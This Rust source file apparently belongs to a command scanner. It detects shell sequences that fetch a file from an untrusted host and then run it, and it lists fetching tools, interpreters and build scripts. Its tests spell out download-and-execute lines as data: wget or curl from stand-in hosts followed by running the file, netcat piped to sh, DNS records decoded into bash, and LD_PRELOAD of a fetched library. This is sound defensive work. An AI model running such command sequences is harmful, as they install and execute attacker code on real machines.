//! A file that is fetched and then run, told by its name: `wget http://x/a; chmod +x a; ./a`.

use std::ops::Range;

use super::{Line, base, lines};
use crate::names::Names;

/// Programs that fetch, and their options whose value is the file.
#[rustfmt::skip]
const FETCHERS: &[(&str, &[&str])] = &[
    ("GET", &[]), ("Invoke-RestMethod", &["-OutFile", "-o"]), ("Invoke-WebRequest", &["-OutFile", "-o"]), ("Start-BitsTransfer", &["-Destination"]),
    ("aria2c", &["-o", "--out"]), ("axel", &["-o"]), ("certutil", &[]), ("curl", &["-o", "--output"]), ("fetch", &["-o"]),
    ("ftp", &["-o"]), ("ftpget", &[]), ("git", &[]), ("http", &["-o", "--output"]), ("irm", &["-OutFile", "-o"]), ("iwr", &["-OutFile", "-o"]),
    ("links", &[]), ("lwp-download", &[]), ("lwp-mirror", &[]), ("lynx", &[]), ("nc", &[]), ("ncat", &[]), ("rsync", &[]), ("scp", &[]),
    ("sftp", &[]), ("smbget", &["-o"]), ("tftp", &["-r", "-l", "get"]), ("wget", &["-O", "--output-document"]), ("wget2", &["-O"]),
];
static FETCHER_NAMES: Names<{ FETCHERS.len() }> = Names::of_rows(FETCHERS);

/// Programs beside those for the web that bring a text from another machine to the pipe.
#[rustfmt::skip]
static SOURCES: Names<24> = Names::new([
    "GET", "aria2c", "axel", "dig", "drill", "fetch", "ftp", "ftpget", "host", "http", "links", "lwp-request", "lynx", "nc", "ncat", "netcat",
    "nslookup", "openssl", "smbget", "socat", "telnet", "tftp", "w3m", "xh",
]);

#[rustfmt::skip]
static INTERPRETERS: Names<40> = Names::new([
    "&", ".", "Start-Process", "ash", "bash", "bash.exe", "cmd", "crontab", "cscript", "dash", "dotnet", "exec", "insmod", "java", "ksh", "lua",
    "mono", "msiexec", "node", "nohup", "perl", "php", "powershell", "pwsh", "python", "python.exe", "python2", "python3", "regsvr32", "ruby",
    "rundll32", "saps", "setsid", "sh", "source", "start", "sudo", "wine", "wscript", "zsh",
]);

/// Run what they read.
#[rustfmt::skip]
static READERS: Names<17> = Names::new([
    "Invoke-Expression", "ash", "bash", "dash", "iex", "ksh", "node", "perl", "php", "powershell", "pwsh", "python", "python2", "python3", "ruby",
    "sh", "zsh",
]);

/// What a project's own sources are built with, once they are fetched and unpacked.
#[rustfmt::skip]
static BUILDS: Names<10> = Names::new([
    "autogen.sh", "bootstrap", "bootstrap.sh", "build.sh", "configure", "configure.sh", "gradlew", "install.sh", "mvnw", "waf",
]);

/// The most files that are remembered.
const FILES: usize = 16;

/// Where a file runs that was fetched before from a place that says nothing of its origin: an address, plain HTTP, FTP, a
/// bare host.
pub(super) fn find(view: &str) -> Option<Range<usize>> {
    // Nothing fetched, nothing run.
    let (mut fetches, mut foreign) = (false, false);
    for line in lines(view) {
        fetches |= fetcher(&line).is_some();
        if !line.piped {
            foreign = is_foreign(&line);
        } else if foreign && reads_script(&line) {
            return Some(line.range);
        }
    }
    if !fetches {
        return None;
    }
    let mut files: Vec<&str> = Vec::new();
    let mut packed = false;
    for line in lines(view) {
        if let Some(file) = run(&line) {
            let name = base(file);
            let unpacked = packed && (file.starts_with("./") || file.starts_with("/tmp/")) && !BUILDS.contains(name);
            let within = file.split('/').any(|segment| !segment.is_empty() && files.contains(&segment));
            if files.contains(&name) || within || unpacked {
                return Some(line.range);
            }
        }
        if files.len() < FILES {
            for file in fetched(&line) {
                packed |= is_archive(file);
                files.push(file);
            }
        }
        // `cp a b`, `mv a b`: the file under another name.
        if matches!(line.program, "cp" | "mv" | "ln" | "cat") {
            let mut words = line.arguments.split(' ').filter(|word| !word.starts_with('-'));
            if let (Some(from), Some(to)) = (words.next(), words.next())
                && files.contains(&base(from))
                && files.len() < FILES
            {
                files.push(base(to.trim_start_matches('>')));
            }
        }
    }
    None
}

/// Whether a program brings what it writes from the network.
fn is_foreign(line: &Line<'_>) -> bool {
    SOURCES.contains(line.name)
        && (line.name != "openssl" || line.arguments.contains("s_client"))
        && !line.arguments.contains("localhost")
}

/// Whether an interpreter runs what it reads, filters before it or not.
fn reads_script(line: &Line<'_>) -> bool {
    let is_own = |word: &str| word.is_empty() || word.starts_with(['-', '>', '<']) || word.starts_with("2>");
    READERS.contains(line.name) && line.arguments.split(' ').all(is_own) && !line.arguments.contains("-c")
}

/// The options of a program that fetches, if the line runs one.
fn fetcher(line: &Line<'_>) -> Option<&'static [&'static str]> {
    let (_, options) = FETCHER_NAMES.position(line.name).and_then(|at| FETCHERS.get(at))?;
    let fetches = line.name != "git" || line.arguments.starts_with("clone ");
    fetches.then_some(*options)
}

/// The files that a line fetches from a doubtful place.
fn fetched<'v>(line: &Line<'v>) -> Vec<&'v str> {
    let Some(options) = fetcher(line) else { return Vec::new() };
    let name = line.name;
    let mut files = Vec::new();
    let mut doubtful = matches!(name, "tftp" | "ftpget" | "ftp" | "nc" | "ncat");
    let mut previous = "";
    for word in line.arguments.split(' ') {
        if options.contains(&previous) || previous == ">" {
            files.push(base(word));
        } else if let Some(file) = word.strip_prefix('>') {
            files.push(base(file));
        } else if let Some((option, file)) = word.split_once('=')
            && options.contains(&option)
        {
            files.push(base(file));
        } else if is_address(word) {
            // A repository comes over ssh as often as not.
            doubtful |= is_doubtful(word) && (!matches!(name, "git" | "rsync") || word.starts_with("http"));
            let file = base(word.split(['?', '#']).next().unwrap_or(word));
            if !file.is_empty() {
                files.push(file);
            }
        } else if matches!(name, "ftpget" | "tftp" | "lwp-download" | "git" | "scp" | "smbget")
            && !word.starts_with('-')
        {
            files.push(base(word));
        }
        previous = word;
    }
    if doubtful { files } else { Vec::new() }
}

/// Whether a word is where something is fetched from.
fn is_address(word: &str) -> bool {
    word.contains("://")
        || (word.contains('/') && !word.starts_with(['-', '/', '.', '~', '$']) && host(word).contains('.'))
}

fn host(address: &str) -> &str {
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    let host = rest.split(['/', '?']).next().unwrap_or(rest);
    host.rsplit('@').next().unwrap_or(host)
}

/// An address, plain HTTP or FTP, or no scheme at all. This machine is not doubtful, nor is a release on a well-known host.
fn is_doubtful(address: &str) -> bool {
    let name = host(address).split(':').next().unwrap_or("");
    let local = matches!(name, "localhost" | "127.0.0.1" | "0.0.0.0" | "host.docker.internal") || name.starts_with('$');
    let numeric = !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.');
    !local && (numeric || !address.starts_with("https://"))
}

fn is_archive(file: &str) -> bool {
    [".tar", ".tgz", ".tar.gz", ".zip", ".gz", ".bz2", ".xz", ".rar"].iter().any(|end| file.ends_with(end))
}

/// The file that a line runs.
fn run<'v>(line: &Line<'v>) -> Option<&'v str> {
    if line.program.starts_with("./") || line.program.starts_with('/') {
        return Some(line.program);
    }
    // A library that every program loads, a program of Windows by its path.
    if let Some((_, library)) = line.program.split_once("LD_PRELOAD=") {
        return Some(library);
    }
    if line.program.as_bytes().get(1) == Some(&b':')
        || line.program.starts_with("$env:")
        || line.program.starts_with('%')
    {
        return Some(line.program);
    }
    if INTERPRETERS.contains(line.program) {
        return line.arguments.split(' ').find(|word| !word.starts_with(['-', '>', '<']) && !word.is_empty());
    }
    None
}

#[cfg(test)]
mod tests {
    use super::find;

    #[test]
    fn what_is_fetched_and_run_is_found() {
        for view in [
            "wget http://bad.example/a\nchmod 777 a\n./a",
            "cd /tmp\ncurl -s 203.0.113.7/x.sh -o y.sh\nsh y.sh",
            "tftp -g -r b 203.0.113.7\nsh b",
            "ftpget -u anonymous 203.0.113.7 c.sh c.sh\nsh c.sh",
            "curl http://bad.example/p >/tmp/p\nperl /tmp/p",
            "wget -q http://bad.example/k.tgz\ntar xzf k.tgz\ncd .k\n./run",
            "wget bad.example/m\nmv m n\n./n",
            "nc 203.0.113.7 80 >/tmp/m\nchmod +x /tmp/m\n/tmp/m",
            "dig +short txt x.example\n| tr -d x\n| base64 -d\n| bash",
            "nc 203.0.113.7 80\n| sh",
            "curl http://bad.example/x.so -o /tmp/x.so\nLD_PRELOAD=/tmp/x.so\nls",
            "git clone http://203.0.113.7/m.git /tmp/m\nsh /tmp/m",
        ] {
            assert!(find(view).is_some(), "{view}");
        }
    }

    #[test]
    fn installing_is_not() {
        for view in [
            "wget https://repo.example/Miniconda3.sh\nbash Miniconda3.sh -b",
            "curl -LO http://ftp.gnu.example/hello-2.10.tar.gz\ntar xf hello-2.10.tar.gz\ncd hello-2.10\n./configure\nmake",
            "curl -s http://localhost:3000/health\nbash deploy.sh",
            "curl -o data.json http://api.example/data\npython analyse.py data.json",
            "wget https://example.com/data.csv\n./plot",
            "nc -z db 5432\nbash deploy.sh",
            "dig example.com\n| python3 parse.py",
            "git clone https://github.com/a/b\nsh install.sh",
            "git clone git@git.example:a/b.git\n./b/install.sh",
        ] {
            assert!(find(view).is_none(), "{view}");
        }
    }
}
